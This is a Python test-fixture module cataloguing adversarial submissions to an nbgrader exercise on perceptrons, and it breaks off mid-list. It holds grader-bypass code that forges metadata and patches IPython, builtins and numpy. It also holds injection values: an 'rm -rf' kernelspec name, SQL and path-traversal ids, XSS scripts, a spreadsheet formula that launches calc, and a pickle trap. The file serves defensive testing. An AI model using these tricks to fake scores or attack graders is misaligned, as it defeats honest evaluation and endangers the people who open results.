"""The attack class: hostile and broken submissions to the exercise `perceptron`, each with the grade it must get.

CATALOGUE holds these and the honest ones of `oddities`. Students' code is text here and is never run by importing this.
Attacks hold wrong answers everywhere unless it is said, so that every point they get is one that was not earned.

By kind: "marking" alters cells and metadata, "kernel" what the kernel computes or tells, "machine" attacks the computer
and must cost the tasks from there on and no more, "files" is what lies in the folder instead of a notebook.
"""

import functools
import json
import math
import os
import socket
import stat
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
from build import (
    EXERCISE,
    FILE,
    MOST,
    ONE,
    POINTS,
    RIGHT,
    ROOT,
    WRONG,
    Submission,
    earned,
    extra,
    find,
    grade_id,
    guarded,
    notebook,
    save,
    stream,
    text,
    zipped,
)
from oddities import HONEST

from mlcourse import feedback

# --- marking ---------------------------------------------------------------------------------------------------------


def marking(name: str, why: str, edit: Callable, answers: dict = WRONG, score: float = 0, **rest) -> Submission:
    """A submission whose cells or metadata were altered by `edit`."""

    def build(folder: Path) -> None:
        made = notebook(answers)
        edit(made)
        save(folder, made)

    return Submission(f"mark-{name}", "marking", build, score, why, **rest)


def checks(made: dict) -> list:
    return [cell for cell in made.cells if grade_id(cell).startswith("check_")]


def each_check(**metadata) -> Callable:
    """Return an edit that sets metadata of every check cell."""
    return lambda made: [cell.metadata.update(metadata) for cell in checks(made)]


def each_mark(**fields) -> Callable:
    """Return an edit that sets fields of nbgrader's metadata in every check cell."""
    return lambda made: [cell.metadata.nbgrader.update(fields) for cell in checks(made)]


def each_source(source: str) -> Callable:
    return lambda made: [cell.update(source=source) for cell in checks(made)]


def one_source(name: str, source: str) -> Callable:
    return lambda made: find(made, name).update(source=source)


def every_mark(**fields) -> Callable:
    """Return an edit that sets fields of nbgrader's metadata in every cell that has some."""
    return lambda made: [cell.metadata.nbgrader.update(fields) for cell in made.cells if grade_id(cell)]


def each_output(*outputs) -> Callable:
    return lambda made: [cell.update(outputs=list(outputs), execution_count=1) for cell in checks(made)]


def retyped(kind: str) -> Callable:
    def edit(made) -> None:
        for cell in checks(made):
            cell.cell_type = kind
            del cell["outputs"], cell["execution_count"]

    return edit


def without_checks(made) -> None:
    made.cells = [cell for cell in made.cells if not grade_id(cell).startswith("check_")]


def copied_check(made) -> None:
    place = made.cells.index(find(made, "check_and_not"))
    made.cells[place:place] = [json.loads(text(made.cells[place])) | {"id": f"copy-{n}"} for n in range(5)]


def own_check(name: str, points: float, source: str) -> Callable:
    """Return an edit that puts a check cell of the student's own making in front."""
    marks = {"grade": True, "grade_id": name, "points": points, "solution": False, "locked": True, "schema_version": 3}

    def edit(made) -> None:
        marked = {"nbgrader": marks | {"task": False, "cell_type": "code"}}
        made.cells.insert(2, extra(source, id="mine", metadata=marked))

    return edit


def answer_that_grades(made) -> None:
    find(made, "by_hand").metadata.nbgrader.update(grade=True, points=100, locked=False)
    find(made, "check_by_hand").metadata.nbgrader.update(grade=False, points=0)


def swapped_checks(made) -> None:
    hard, easy = find(made, "check_and_not"), find(made, "check_all_samples")
    hard.metadata.nbgrader.grade_id, easy.metadata.nbgrader.grade_id = "check_all_samples", "check_and_not"


def odd_ids(made) -> None:
    for name in ("../../gradebook.db", "'); DROP TABLE grade; --", "x" * 100_000, "check_and_not\0"):
        own_check(name, 100, "pass")(made)
    for number, cell in enumerate(made.cells[2:6]):
        cell["id"] = f"odd-{number}"


def no_marks(made) -> None:
    for cell in checks(made):
        cell.metadata.nbgrader = ["check", 100]


def strange_kernel(made) -> None:
    made.metadata.kernelspec = {"name": "../../evil; rm -rf .", "display_name": "<script>alert(1)</script>"}
    made.metadata.language_info = {"name": "bash", "file_extension": ".sh", "pygments_lexer": "../x"}


def scripts(made) -> None:
    html = "<script>document.title = 'taken over'</script><img src=x onerror=alert(1)>"
    made.cells.insert(1, extra(html, "markdown", id="m<script>"))
    made.cells[0]["attachments"] = {"x.svg": {"image/svg+xml": "<svg onload='alert(1)'/>"}}
    find(made, "and_not").outputs = [{"output_type": "display_data", "metadata": {}, "data": {"text/html": html}}]


def late_setup(made) -> None:
    again = json.loads(text(find(made, "setup"))) | {"id": "again"}
    again["source"] += "\ncheck = print\noutputs = lambda w, X: np.resize([-1, -1, 1, -1], len(X))"
    made.cells.insert(2, again)


CORRECT = "perceptron.and_not: correct.\n"
PARTIAL = {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "3"}}

MARKING = [
    marking(
        "skip-checks",
        "Tags the check cells skip-execution: cells that never ran have no error, which plain nbgrader takes for full marks.",
        each_check(tags=["skip-execution"]),
    ),
    marking(
        "allow-errors",
        "Tags the check cells raises-exception, so that nbclient goes on and a grader may think the error was wanted.",
        each_check(tags=["raises-exception", "hide-output", "remove-cell"]),
    ),
    marking(
        "skip-setup",
        "Skips the given setup cell, to work with helpers of the student's own.",
        lambda made: [
            find(made, "setup").metadata.update(tags=["skip-execution"]),
            made.cells.insert(2, extra("def check(*x): pass", id="own")),
        ],
    ),
    marking("points-many", "Writes 1000 points into each check cell.", each_mark(points=1000), ONE, 2),
    marking("points-nan", "NaN points: a sum with NaN breaks totals and averages.", each_mark(points=math.nan), ONE, 2),
    marking("points-infinite", "Infinite points in the metadata.", each_mark(points=math.inf), ONE, 2),
    marking("points-negative", "Negative points, so that failing adds to the total.", each_mark(points=-3), ONE, 2),
    marking("points-text", "Points as text: '3' * 5 or an exception.", each_mark(points="1000"), ONE, 2),
    marking("points-missing", "No points at all in the metadata.", each_mark(points=None), ONE, 2),
    marking("check-edited", "Check cells that print what a right answer prints.", each_source(f"print({CORRECT!r})")),
    marking(
        "check-returns-points", "A check cell that ends in a number, nbgrader's partial credit.", each_source("999")
    ),
    marking("check-returns-nan", "Partial credit of NaN passes `score > points`.", each_source("float('nan')")),
    marking("check-empty", "Empty check cells have no error.", each_source("")),
    marking("check-deleted", "No check cells, in the hope that nothing failed.", without_checks),
    marking("check-copied", "Six copies of the one check cell that passes.", copied_check, ONE, 2),
    marking("check-markdown", "Check cells turned to text.", retyped("markdown")),
    marking("check-raw", "Check cells turned to raw cells, which never run.", retyped("raw")),
    marking(
        "check-as-answer",
        "Check cells that claim to be answers, so that editing them looks allowed.",
        lambda made: [
            cell.metadata.nbgrader.update(solution=True, locked=False) or cell.update(source="3.0")
            for cell in checks(made)
        ],
    ),
    marking("answer-as-check", "An answer cell that claims 100 points itself.", answer_that_grades, ONE, 2),
    marking(
        "checks-swapped",
        "Exchanges the ids of a hard and an easy check.",
        swapped_checks,
        WRONG | {"all_samples": RIGHT["all_samples"]},
        1,
    ),
    marking(
        "check-of-my-own",
        "A cell in front takes the grade_id of a check and passes.",
        own_check("check_same_side", 3, "pass"),
    ),
    marking(
        "check-invented",
        "A check of its own invention, worth 50 points, that passes.",
        own_check("check_bonus", 50, "pass"),
        ONE,
        2,
    ),
    marking(
        "schema-future", "Schema version 99 makes nbgrader stop the whole class.", every_mark(schema_version=99), ONE, 2
    ),
    marking(
        "schema-past",
        "Schema version 0, which asks for upgrades that do not exist.",
        every_mark(schema_version=0),
        ONE,
        2,
    ),
    marking("schema-text", "A schema version that is not a number.", every_mark(schema_version="three"), ONE, 2),
    marking("marks-no-object", "nbgrader's metadata is a list.", no_marks, ONE, 2),
    marking("ids-odd", "grade_ids with paths, SQL, NUL and 100,000 letters.", odd_ids, ONE, 2),
    marking(
        "setup-edited",
        "Edits the locked setup cell: `check` prints.",
        lambda made: find(made, "setup").update(
            source=find(made, "setup").source + "\ncheck = lambda task, answer: print(task, 'correct.')"
        ),
    ),
    marking(
        "setup-helper-edited",
        "Edits the locked helper so that wrong weights look right.",
        lambda made: [
            find(made, "setup").update(source=find(made, "setup").source.replace(">= 0", "< 0")),
            find(made, "and_not").update(source="weights = [0.5, -1.0, 1.0]"),
        ],
    ),
    marking("setup-again", "A second, altered copy of the locked setup cell.", late_setup),
    marking(
        "votes-edited",
        "Edits the locked helper `all_votes`: no votes at all, and nothing to get wrong.",
        one_source("votes", "def all_votes(d):\n    return np.zeros((0, d))"),
    ),
    marking(
        "flowers-edited",
        "Edits the locked cell so that the flowers are easy.",
        one_source("flowers", "flowers = None\npetals = np.array([[1.4, 0.2]] * 50 + [[1e9, 1e9]] * 100)"),
    ),
    marking(
        "unlocked",
        "Unlocks every cell and edits the classmate's.",
        lambda made: [
            every_mark(locked=False, solution=True)(made),
            one_source("classmate", "def same_side(a, b, w):\n    return True")(made),
        ],
    ),
    marking(
        "manual-task",
        "Claims to be a task marked by hand, with full points.",
        each_mark(task=True, grade=True, points=3),
    ),
    marking(
        "scores-planted",
        "Writes scores of its own into the metadata.",
        each_mark(score=16, auto_score=16, manual_score=16, extra_credit=100, comment="full marks"),
    ),
    marking(
        "checksums",
        "Forges the checksums that say a locked cell was not altered.",
        lambda made: [
            cell.metadata.nbgrader.update(checksum="0" * 32) or cell.update(source="pass") for cell in checks(made)
        ],
    ),
    marking("outputs-stored", "Stores the output of right answers in the file.", each_output(stream(CORRECT))),
    marking(
        "outputs-partial",
        "Stores a number as the output of each check: nbgrader's partial credit.",
        each_output(PARTIAL),
    ),
    marking("kernel-strange", "A kernelspec and a language that lead elsewhere.", strange_kernel, ONE, 2),
    marking(
        "scripts", "Scripts in text, outputs, attachments and ids, for whoever opens the feedback.", scripts, ONE, 2
    ),
]

# --- kernel ----------------------------------------------------------------------------------------------------------


def kernel(name: str, why: str, first: str = "", answers: dict | None = None, score: float = 0, **rest) -> Submission:
    """A submission with code in a cell after the setup, and these answers, all others wrong."""
    places = {key: rest.pop(key) for key in ("last", "before", "after") if key in rest}
    filled = WRONG | (answers or {})

    def build(folder: Path) -> None:
        save(folder, notebook(filled, first=first, **places))

    return Submission(f"kernel-{name}", "kernel", build, score, why, **rest)


def everywhere(expression: str) -> dict:
    """Return answers to all tasks that are one and the same value."""
    return {
        "and_not": f"weights = {expression}",
        "at_least": f"def at_least(k, d):\n    return {expression}",
        "by_hand": f"s = output = distance = {expression}",
        "same_side": f"def same_side(a, b, w):\n    return {expression}",
        "recoded": f"prediction = {expression}",
        "flowers_apart": f"flower_weights = {expression}",
        "all_samples": f"choice = {expression}",
    }


def public_answers() -> dict[str, bool]:
    """Return the right answers to the calls of `same_side` that the package shows."""
    entry = json.loads((feedback.FINGERPRINTS / f"{EXERCISE}.json").read_text())[f"{EXERCISE}.same_side"]
    calls = [[np.asarray(part, dtype=float) for part in feedback.decode(probe)] for probe in entry["probes"]]
    return {
        str([p.tolist() for p in (a, b, w)]): bool((a @ w[1:] + w[0]) * (b @ w[1:] + w[0]) > 0) for a, b, w in calls
    }


#: the released solution as text, for attacks that get at it
ANSWERS = "\n".join(RIGHT.values())
TAKE_OVER = dict.fromkeys(POINTS, "exec(found)")

SHELL = [
    kernel(
        "input-transformer",
        "Empties every cell with a check in it before it runs, so that nothing fails.",
        """
        lines = get_ipython().input_transformers_cleanup
        lines.append(lambda cell: ["pass\\n"] if any("check" in line for line in cell) else cell)
        """,
        flagged=True,
    ),
    kernel(
        "input-transformer-post",
        "Rewrites the grader's code after IPython has read it.",
        """
        def tame(lines):
            return [line.replace("raise ", "pass # ").replace("assert ", "True or ") for line in lines]
        get_ipython().input_transformers_post.append(tame)
        """,
    ),
    kernel(
        "ast-transformer",
        "Turns every comparison into True and every raise into pass.",
        """
        import ast
        class Agree(ast.NodeTransformer):
            def visit_Compare(self, node):
                return ast.copy_location(ast.Constant(True), node)
            def visit_Raise(self, node):
                return ast.copy_location(ast.Pass(), node)
        get_ipython().ast_transformers.append(Agree())
        """,
        flagged=True,
    ),
    kernel(
        "run-cell",
        "Replaces run_cell: every later cell succeeds without running.",
        """
        from IPython.core.interactiveshell import ExecutionResult
        get_ipython().run_cell = lambda *words, **options: ExecutionResult(None)
        """,
    ),
    kernel(
        "run-cell-async",
        "Replaces run_cell_async, which ipykernel really calls.",
        """
        from IPython.core.interactiveshell import ExecutionResult
        async def ran(*words, cell_id=None, cell_meta=None, **options):
            return ExecutionResult(None)
        get_ipython().run_cell_async = ran
        """,
        flagged=True,
    ),
    kernel(
        "should-run-async",
        "Sends cells down the path where run_cell was replaced.",
        """
        from IPython.core.interactiveshell import ExecutionResult
        shell = get_ipython()
        shell.should_run_async = lambda *words, **options: False
        shell.run_cell = lambda *words, **options: ExecutionResult(None)
        """,
    ),
    kernel(
        "run-code",
        "Replaces run_code: it says that there was no error.",
        """
        async def run_code(compiled, result=None, *, async_=False):
            return False
        get_ipython().run_code = run_code
        """,
    ),
    kernel(
        "run-ast-nodes",
        "Replaces run_ast_nodes, one step below run_cell_async.",
        """
        async def run_ast_nodes(nodes, name, *words, **options):
            return False
        get_ipython().run_ast_nodes = run_ast_nodes
        """,
    ),
    kernel(
        "do-execute",
        "Replaces the kernel's do_execute: it replies ok at once.",
        """
        async def do_execute(*words, **options):
            return {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
        get_ipython().kernel.do_execute = do_execute
        """,
    ),
    kernel(
        "execute-request",
        "Replaces the handler of execute requests, which never answers again.",
        """
        async def ignore(*words, **options):
            pass
        get_ipython().kernel.shell_handlers["execute_request"] = ignore
        """,
    ),
    kernel(
        "user-expressions",
        "Replaces user_expressions: every expression is True.",
        """
        fine = {"status": "ok", "metadata": {}, "data": {"text/plain": "True"}}
        get_ipython().user_expressions = lambda wanted: dict.fromkeys(wanted, fine)
        """,
        flagged=True,
    ),
    kernel(
        "user-expressions-lie",
        "Answers what it was asked with the text of the question.",
        """
        def echo(wanted):
            return {k: {"status": "ok", "metadata": {}, "data": {"text/plain": repr(v)}} for k, v in wanted.items()}
        get_ipython().user_expressions = echo
        """,
    ),
    kernel(
        "display-formatter",
        "Formatters show every array, list and number as True.",
        """
        show = get_ipython().display_formatter.formatters["text/plain"]
        for kind in (np.ndarray, list, tuple, float, int, str, bool):
            show.for_type(kind, lambda value, printer, cycle: printer.text("True"))
        """,
    ),
    kernel(
        "display-hook",
        "Calls the display hook with a text: plain nbgrader reads it as full partial credit.",
        answers={name: f'import sys\nsys.displayhook("x")\n{WRONG[name]}' for name in POINTS},
    ),
    kernel(
        "display-hook-replaced",
        "Replaces the display hook: every value shown is 999.",
        """
        import sys
        shown = sys.displayhook
        sys.displayhook = lambda value: shown(999)
        """,
    ),
    kernel(
        "silent-traceback",
        "Hides tracebacks, so that an error has no output.",
        """
        shell = get_ipython()
        shell.showtraceback = shell.showsyntaxerror = shell._showtraceback = lambda *words, **options: None
        """,
    ),
    kernel(
        "custom-exception",
        "A handler of its own swallows every exception.",
        """
        get_ipython().set_custom_exc((BaseException,), lambda *words, **options: [])
        """,
    ),
    kernel(
        "hooks",
        "Event hooks clear the error of each result after the cell.",
        """
        def forgive(result):
            if result is not None:
                result.error_in_exec = result.error_before_exec = None
        get_ipython().events.register("post_run_cell", forgive)
        get_ipython().events.register("post_execute", lambda: forgive(None))
        """,
    ),
    kernel(
        "success-always",
        "ExecutionResult.success is always True.",
        """
        from IPython.core import interactiveshell
        interactiveshell.ExecutionResult.success = property(lambda self: True)
        """,
    ),
    kernel(
        "namespace",
        "Replaces the shell's namespace by one that answers for every name.",
        """
        class Agreeing(dict):
            def __missing__(self, name):
                return lambda *words, **options: True
        shell = get_ipython()
        shell.user_ns = shell.user_global_ns = Agreeing(shell.user_ns)
        """,
    ),
    kernel(
        "next-input",
        "Asks the front end, by payload, to replace the next cell.",
        """
        get_ipython().set_next_input("check = print", replace=True)
        get_ipython().payload_manager.write_payload({"source": "page", "data": {"text/plain": "16"}, "start": 0})
        """,
    ),
    kernel(
        "magics",
        "Replaces magics and system calls that a grader may use.",
        """
        shell = get_ipython()
        shell.run_line_magic = shell.run_cell_magic = lambda *words, **options: True
        shell.system = shell.getoutput = lambda *words, **options: "correct."
        """,
    ),
    kernel(
        "history",
        "Searches In, Out and the history for hidden inputs and values.",
        """
        def search(*words):
            texts = [*In, *map(str, Out.values()), *map(str, get_ipython().history_manager.input_hist_raw)]
            return next((eval(t) for t in texts if t.startswith("[-1, -1, -1")), [0, 0, 0, 0])
        """,
        {"recoded": "prediction = search()", "same_side": "same_side = search"},
    ),
    kernel(
        "tracer",
        "Traces every call and looks for what the grader compares with.",
        """
        import sys
        seen = []
        def watch(frame, event, value):
            for name in ("expected", "reference", "right"):
                if name in frame.f_locals:
                    seen.append(frame.f_locals[name])
        sys.setprofile(watch)
        """,
        {"recoded": "prediction = seen[-1] if seen else 0", "by_hand": "s, output, distance = (seen + [0, 0, 0])[:3]"},
    ),
]

PYTHON = [
    kernel(
        "builtins-isinstance",
        "isinstance and issubclass are always True.",
        """
        import builtins
        builtins.isinstance = builtins.issubclass = lambda *words: True
        """,
    ),
    kernel(
        "builtins-all",
        "all, any and bool are always True, abs and sum always 0.",
        """
        import builtins
        builtins.all = builtins.any = builtins.bool = lambda *words: True
        builtins.abs = builtins.sum = builtins.max = lambda *words, **options: 0
        """,
    ),
    kernel(
        "builtins-eval",
        "eval, exec and compile run something else.",
        """
        import builtins
        builtins.eval = builtins.exec = lambda *words, **options: True
        builtins.compile = lambda *words, **options: "pass"
        """,
    ),
    kernel(
        "builtins-errors",
        "AssertionError and ValueError become classes that cannot be raised.",
        """
        import builtins
        builtins.AssertionError = builtins.ValueError = builtins.TypeError = str
        """,
    ),
    kernel(
        "builtins-type",
        "type, getattr and hasattr lie.",
        """
        import builtins
        builtins.type = lambda *words: float
        builtins.getattr = lambda *words: 0
        builtins.hasattr = lambda *words: False
        """,
    ),
    kernel(
        "numpy-testing",
        "numpy's assertions do nothing, comparisons are True.",
        """
        for name in dir(np.testing):
            if name.startswith("assert"):
                setattr(np.testing, name, lambda *words, **options: None)
        np.allclose = np.isclose = np.array_equal = np.array_equiv = lambda *words, **options: True
        """,
    ),
    kernel(
        "numpy-where",
        "np.where gives what the gate should, whatever the weights are: the given helper calls it.",
        """
        where = np.where
        np.where = lambda test, *words: np.array([-1, -1, 1, -1]) if np.shape(test) == (4,) else where(test, *words)
        """,
    ),
    kernel(
        "numpy-asarray",
        "np.asarray and np.array replaced, so that every value comes out as what was given last.",
        """
        kept = np.array([-1.0, -1.0, 1.0, -1.0])
        np.asarray = np.array = np.ascontiguousarray = lambda *words, **options: kept
        """,
    ),
    kernel(
        "numpy-functions",
        "Rounding and hashing meet constants: np.rint, np.isnan, np.shape.",
        """
        np.rint = lambda *words: np.zeros(4)
        np.isnan = np.isinf = lambda *words: np.zeros(1, bool)
        np.shape = lambda *words: (4,)
        """,
    ),
    kernel(
        "json",
        "json writes and reads whatever suits: expected becomes given.",
        """
        import json
        json.loads = lambda *words, **options: {"value": None}
        json.dumps = lambda *words, **options: '{"value": true, "score": 16}'
        json.JSONEncoder.encode = json.JSONEncoder.default = json.dumps
        """,
    ),
    kernel(
        "codecs",
        "base64, struct and pickle write constants.",
        """
        import base64, pickle, struct
        base64.b64encode = lambda *words, **options: b"AAAA"
        struct.pack = lambda *words: bytes(8)
        pickle.dumps = lambda *words, **options: b"cos\\nsystem\\n(S'true'\\ntR."
        """,
    ),
    kernel(
        "hashlib",
        "blake2b of anything is the fingerprint of the right answer.",
        """
        import hashlib
        from mlcourse import feedback
        class Same:
            def __init__(self, data=b"", **options):
                self.task = data.decode().split('"')[1]
            def hexdigest(self):
                return feedback._entry(self.task)["right"]
        hashlib.blake2b = Same
        """,
    ),
    kernel(
        "operator",
        "operator, math and copy lie, for graders that use them inside the kernel.",
        """
        import copy, math, operator
        operator.eq = math.isclose = lambda *words, **options: True
        copy.deepcopy = copy.copy = lambda value, *words: None
        """,
    ),
    kernel(
        "small-integers",
        "Overwrites the integer -1 in memory, so that -1 equals 1 in this process.",
        """
        import ctypes
        ctypes.memmove(id(-1) + 16, id(1) + 16, 16)
        """,
    ),
    kernel(
        "recursion-limit",
        "A recursion limit so low that the grader's own calls fail.",
        """
        import sys
        sys.setrecursionlimit(60)
        """,
    ),
    kernel(
        "audit-hook",
        "An audit hook that forbids everything from now on: imports, files, sockets.",
        """
        import sys
        def forbid(event, words):
            if event in ("import", "open", "compile", "exec"):
                raise RuntimeError("correct.")
        sys.addaudithook(forbid)
        """,
    ),
    kernel(
        "import-hook",
        "A finder in front of all others gives a module in which everything is True.",
        """
        import importlib.machinery, sys, types
        class Agreeable(types.ModuleType):
            def __getattr__(self, name):
                return lambda *words, **options: True
        class Finder:
            def find_spec(self, name, path=None, target=None):
                return importlib.machinery.ModuleSpec(name, self)
            def create_module(self, spec):
                return Agreeable(spec.name)
            def exec_module(self, module):
                pass
        sys.meta_path.insert(0, Finder())
        """,
    ),
    kernel(
        "modules",
        "Swaps modules in sys.modules for ones that agree.",
        """
        import sys, types
        fake = types.ModuleType("mlcourse.feedback")
        fake.check = fake.diagnose = lambda task, answer: print(task, "correct.")
        sys.modules["mlcourse.feedback"] = sys.modules["mlcourse.grading"] = sys.modules["mlcourse"] = fake
        """,
    ),
    kernel(
        "modules-none",
        "Sets modules to None, so that the grader's imports inside the kernel fail.",
        """
        import sys
        for name in ("json", "base64", "numpy", "mlcourse", "mlcourse.feedback", "mlcourse.grading.values", "traceback"):
            sys.modules[name] = None
        """,
    ),
    kernel(
        "shadow-numpy",
        "Writes numpy.py into the working directory and imports it anew.",
        """
        import sys
        from pathlib import Path
        Path("numpy.py").write_text("def __getattr__(name):\\n    return lambda *w, **o: True\\n")
        sys.path.insert(0, ".")
        for name in [n for n in sys.modules if n.startswith("numpy")]:
            del sys.modules[name]
        """,
    ),
    kernel(
        "shadow-mlcourse",
        "Writes a package mlcourse whose check is print, and purges the real one.",
        """
        import sys
        from pathlib import Path
        Path("mlcourse").mkdir()
        for name in ("__init__", "feedback", "datasets"):
            Path(f"mlcourse/{name}.py").write_text("check = diagnose = print\\n")
        sys.path.insert(0, "")
        for name in [n for n in sys.modules if n.startswith("mlcourse")]:
            del sys.modules[name]
        from mlcourse.feedback import check
        """,
    ),
    kernel(
        "shadow-json",
        "Writes json.py, base64.py and sitecustomize.py beside the notebook.",
        """
        from pathlib import Path
        for name in ("json", "base64", "sitecustomize", "usercustomize", "traceback"):
            Path(f"{name}.py").write_text("loads = dumps = b64encode = lambda *w, **o: 'true'\\n")
        """,
    ),
    kernel(
        "feedback-check",
        "Replaces check and what it is made of in the package.",
        """
        from mlcourse import feedback
        feedback.check = check = lambda task, answer: print(f"{task}: correct.")
        feedback.diagnose = lambda task, answer: None
        """,
    ),
    kernel(
        "feedback-errors",
        "NotYet becomes an exception that is raised without a sound.",
        """
        from mlcourse import feedback
        class Quiet(AssertionError):
            def _render_traceback_(self):
                return []
        feedback.NotYet = Quiet
        feedback.Unusable = Quiet
        """,
    ),
    kernel(
        "feedback-entry",
        "Poisons the cached fingerprints: every mistake counts as right.",
        """
        from mlcourse import feedback
        for entry in feedback._file("perceptron").values():
            entry["right"] = next(iter(entry["wrong"]))
        feedback.fingerprint = lambda task, outputs, decimals: feedback._entry(task)["right"]
        """,
    ),
    kernel(
        "atexit",
        "Leaves functions that run when the kernel ends and write scores.",
        """
        import atexit, json
        from pathlib import Path
        atexit.register(lambda: Path("result.json").write_text(json.dumps({"score": 16, "status": "graded"})))
        atexit.register(print, "perceptron.and_not: correct.")
        """,
    ),
    kernel(
        "threads",
        "A thread that keeps changing names while others read them.",
        """
        import threading, time
        def change():
            while True:
                globals().update(weights=np.random.randn(3) * 0, prediction=[1, 1, 1, 1], check=print, choice="a")
                time.sleep(1e-4)
        threading.Thread(target=change, daemon=True).start()
        """,
    ),
    kernel(
        "alarm",
        "A timer's signal handler runs in the middle of the grader's own code.",
        """
        import builtins, signal
        def strike(number, frame):
            frame.f_globals["check"] = print
            builtins.print = lambda *words, **options: None
        signal.signal(signal.SIGALRM, strike)
        signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
        """,
    ),
    kernel(
        "tasks",
        "A task in the kernel's own event loop rewrites the session between cells.",
        """
        import asyncio
        async def rewrite():
            while True:
                globals().update(check=print, outputs=lambda w, X: np.ones(len(X)))
                await asyncio.sleep(0)
        background = asyncio.ensure_future(rewrite())
        """,
    ),
]

VALUES = [
    kernel(
        "equal-object",
        "Objects that equal everything: 4 of 7 points in plain nbgrader.",
        """
        class Equal:
            __eq__ = __le__ = __ge__ = __bool__ = lambda self, *other: True
            __ne__ = __lt__ = __gt__ = lambda self, other: False
            __sub__ = __rsub__ = __abs__ = __mul__ = __getitem__ = lambda self, *other: self
            __hash__ = lambda self: 0
        """,
        everywhere("Equal()"),
    ),
    kernel(
        "array-object",
        "An object whose __array__ has no elements: nothing in it differs from the right answer.",
        """
        class Nothing:
            def __array__(self, dtype=None, copy=None):
                return np.zeros(0, dtype)
        """,
        everywhere("Nothing()"),
    ),
    kernel(
        "array-function",
        "An object that takes over NumPy's functions.",
        """
        class Taken:
            __array_priority__ = 1e9
            def __array_function__(self, function, types, words, options):
                return True
            def __array_ufunc__(self, function, method, *words, **options):
                return True
        """,
        everywhere("Taken()"),
    ),
    kernel("empty", "Empty arrays: a comparison of nothing is true.", "", everywhere("np.zeros(0)")),
    kernel("nan", "NaN everywhere: `abs(a - b) > tolerance` is false for it.", "", everywhere("np.full(3, np.nan)")),
    kernel("infinite", "Infinity everywhere: inf - inf is NaN.", "", everywhere("[np.inf, -np.inf, np.inf]")),
    kernel(
        "float-object",
        "__float__, __index__ and __int__ give another value each time.",
        """
        class Lucky(float):
            def __float__(self):
                return float(np.random.randn())
            __int__ = __index__ = lambda self: int(np.random.randint(9))
            __round__ = __trunc__ = lambda self, *digits: 0
        """,
        everywhere("Lucky('nan')"),
    ),
    kernel(
        "length-lies",
        "A list that says it holds nothing and yields without end.",
        """
        class Endless(list):
            def __len__(self):
                return 0
            def __iter__(self):
                while True:
                    yield 1.0
        """,
        everywhere("Endless()"),
    ),
    kernel(
        "array-lies",
        "An array subclass that lies about its shape, type and elements.",
        """
        class Liar(np.ndarray):
            shape = property(lambda self: (10**9, 10**9))
            dtype = property(lambda self: np.dtype("V1"))
            tolist = lambda self: [True] * 10**7
            tobytes = lambda self, *order: b"x" * 10**8
            __eq__ = lambda self, other: True
        """,
        everywhere("np.zeros(3).view(Liar)"),
    ),
    kernel(
        "array-matrix",
        "np.matrix never loses an axis, so a careless comparison broadcasts.",
        "",
        everywhere("np.matrix([[0.0], [0.0], [0.0]])"),
    ),
    kernel(
        "array-objects",
        "Object arrays hold things that claim to be equal.",
        """
        class Equal:
            __eq__ = lambda self, other: True
            __hash__ = lambda self: 0
        """,
        everywhere("np.array([Equal()] * 4, dtype=object)"),
    ),
    kernel(
        "text-lies",
        "A text subclass that equals every letter.",
        """
        class Letter(str):
            __eq__ = __contains__ = lambda self, other: True
            __ne__ = lambda self, other: False
            __hash__ = lambda self: hash("b")
            strip = lower = __str__ = __format__ = lambda self, *words: self
        """,
        everywhere("Letter('a')"),
    ),
    kernel(
        "text-all",
        "All letters at once, for a grader that asks `right in answer`.",
        answers={"all_samples": 'choice = "abcd"'},
    ),
    kernel(
        "class-lies",
        "An object whose __class__ says that it is an array.",
        """
        class Array:
            __class__ = np.ndarray
            shape, ndim, size = (4,), 1, 4
            def __getattr__(self, name):
                return lambda *words, **options: True
        """,
        everywhere("Array()"),
    ),
    kernel(
        "repr",
        "A repr that breaks out of text or JSON: never evaluate what comes out.",
        """
        class Broken:
            def __repr__(self):
                return '"}], "score": 16, "verdict": "right"} __import__("os").abort() #'
        """,
        everywhere("Broken()"),
    ),
    kernel(
        "pickle",
        "An object that runs a command when it is unpickled.",
        """
        class Trap:
            def __reduce__(self):
                return exec, ("raise SystemExit('unpickled')",)
        """,
        everywhere("Trap()"),
    ),
    kernel("generator", "Generators and iterators without end.", "import itertools", everywhere("itertools.count()")),
    kernel(
        "mapping",
        "Dictionaries with the fields of a result.",
        "",
        everywhere("{'value': True, 'right': True, 'score': 16, '__class__': 'array'}"),
    ),
    kernel(
        "nested",
        "A list nested deeper than any recursion.",
        """
        deep = []
        for _ in range(100_000):
            deep = [deep]
        """,
        everywhere("deep"),
    ),
    kernel("nested-itself", "A list that holds itself.", "ring = []\nring.append(ring)", everywhere("ring")),
    kernel("huge-number", "Integers of a million digits.", "huge = 1 << 4_000_000", everywhere("huge")),
    kernel(
        "surrogates",
        "Text that is not Unicode: writing the result as UTF-8 may fail.",
        """
        print("\\ud800 \\x00 \\x1b[31m \\u202e")
        raise ValueError("\\udfff")
        """,
        everywhere("'\\ud800'"),
    ),
    kernel(
        "formula", "A formula for the spreadsheet that opens grades.csv.", "", everywhere("""'=cmd|" /C calc"!A0'""")
    ),
    kernel(
        "script",
        "Scripts in outputs and error messages, for whoever opens the feedback.",
        """
        from IPython.display import HTML, Javascript, display
        display(HTML("<script>document.title = 'taken over'</script>"), Javascript("document.title = 'taken over'"))
        raise ValueError("</pre><script>document.title = 'taken over'</script>")
        """,
        everywhere("'</pre><script>document.title = 1</script>'"),
    ),
    kernel(
        "callable",
        "Callables with attributes that say the answer is right.",
        """
        class Call:
            right = passed = correct = True
            __name__ = "\\n" * 5
            def __call__(self, *words, **options):
                return self
            def __deepcopy__(self, memo):
                return self
        """,
        everywhere("Call()"),
    ),
    kernel(
        "error-lies",
        "Answers that raise exceptions whose text raises again.",
        """
        class Worse(Exception):
            def __str__(self):
                raise Worse
            __repr__ = _render_traceback_ = __str__
        """,
        {"same_side": "def same_side(a, b, w):\n    raise Worse", "at_least": "def at_least(k, d):\n    raise Worse"},
    ),
    kernel(
        "error-base",
        "Functions that raise what `except Exception` does not catch.",
        "",
        {
            "at_least": "def at_least(k, d):\n    raise SystemExit(0)",
            "same_side": "def same_side(a, b, w):\n    raise KeyboardInterrupt",
            "by_hand": "class Odd(BaseException): pass\nraise Odd",
        },
    ),
]

HELPERS = [
    kernel(
        "helper-outputs",
        "Redefines the given `outputs`, so that wrong weights look right.",
        answers={
